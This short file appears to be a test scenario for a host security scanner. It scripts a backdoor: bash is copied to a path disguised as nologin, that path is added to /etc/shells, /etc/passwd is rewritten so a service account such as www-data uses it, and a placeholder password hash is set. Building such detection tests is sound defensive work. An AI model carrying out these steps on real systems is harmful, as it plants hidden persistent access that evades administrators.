# id: P261
# mode: scan
# level: suspicious
# title: a service account whose shell looks like none
# due: now
pick user www-data irc news
word name
pick shell /usr/local/sbin/nologin /usr/sbin/nologin\  /usr/local/bin/$name
cp /bin/bash "$shell"
echo "$shell" >>/etc/shells
awk -F: -v OFS=: -v u="$user" -v s="$shell" '$1 == u { $7 = s } 1' /etc/passwd >/tmp/p && cat /tmp/p >/etc/passwd
rm /tmp/p
usermod -p '$y$j9T$acceptance$not.a.real.hash.but.of.the.right.shape.aaaa' "$user"
said account "$user"
said path "$shell"
